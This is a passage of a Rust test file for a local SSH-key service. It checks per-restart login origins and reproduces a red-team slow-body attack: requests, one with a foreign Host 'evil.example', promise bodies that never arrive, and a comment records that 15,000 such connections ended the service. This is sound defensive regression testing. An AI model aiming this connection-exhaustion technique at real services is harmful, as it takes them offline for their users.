/// answered there (`end2end/tests/local-security.spec.ts` mounts the attack in Chromium).
#[test]
fn each_start_links_to_an_origin_of_its_own_where_the_page_is_served() {
    let home = tempfile::tempdir().unwrap();
    let origin_of = |app: &helpers::App| {
        let link = app.login_link();
        let origin = link.split("/?token=").next().unwrap().to_owned();
        let host = origin.strip_prefix("http://").unwrap().to_owned();
        (link, host)
    };
    let app = spawn_app_at(home.path(), "127.0.0.1:0", &[]);
    let port = app.port;
    let (link, host) = origin_of(&app);
    let token_path = &link[link.find("/?token=").unwrap()..];
    let login = app.raw(&format!(
        "GET {token_path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    ));
    assert!(login.starts_with("HTTP/1.1 303"), "{login}");
    let cookie = login
        .lines()
        .find_map(|l| l.strip_prefix("set-cookie: "))
        .and_then(|c| c.split(';').next())
        .unwrap_or_else(|| panic!("{login}"))
        .to_owned();
    let page = app.raw(&format!(
        "GET /ssh-keys HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\nConnection: close\r\n\r\n"
    ));
    assert!(
        page.starts_with("HTTP/1.1 200"),
        "{}",
        &page[..page.len().min(300)]
    );
    drop(app);

    let again = spawn_app_at(home.path(), &format!("127.0.0.1:{port}"), &[]);
    let (_, other) = origin_of(&again);
    assert_ne!(
        host, other,
        "two starts on port {port} linked to one origin"
    );
}

/// Red team (helper-48): a request whose body was promised and never sent held its connection
/// and a task for ever, a refused one too (keyhatch reads what a refused request sent, to end
/// in order): 15,000 such connections ended the service, 20,000 took every descriptor. Reading
/// a body takes at most 20 s.
#[test]
fn a_request_whose_body_never_comes_is_let_go_within_the_bound() {
    let home = tempfile::tempdir().unwrap();
    let app = spawn_app(home.path());
    let port = app.port;
    // A generate to the API, and one to a foreign host (refused), each promising 100 KB.
    let held: Vec<_> = [format!("127.0.0.1:{port}"), "evil.example".to_owned()]
        .into_iter()
        .map(|host| {
            std::thread::spawn(move || {
                let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
                stream
                    .set_read_timeout(Some(Duration::from_secs(40)))
                    .unwrap();
                let request = format!(
                    "POST /api/keys/generate HTTP/1.1\r\nHost: {host}\r\n\
                     Authorization: Bearer {TOKEN}\r\nContent-Type: application/json\r\n\
                     Content-Length: 100000\r\n\r\n{{"
                );
                stream.write_all(request.as_bytes()).unwrap();
                let started = Instant::now();
                let _ = stream.read_to_end(&mut Vec::new());
                started.elapsed()
            })
        })
        .collect();
    for waited in held.into_iter().map(|t| t.join().unwrap()) {
        assert!(waited < Duration::from_secs(30), "held for {waited:?}");
    }
    assert!(
        !app.authorized_keys().exists(),
        "a key was made of half a body"
    );
}
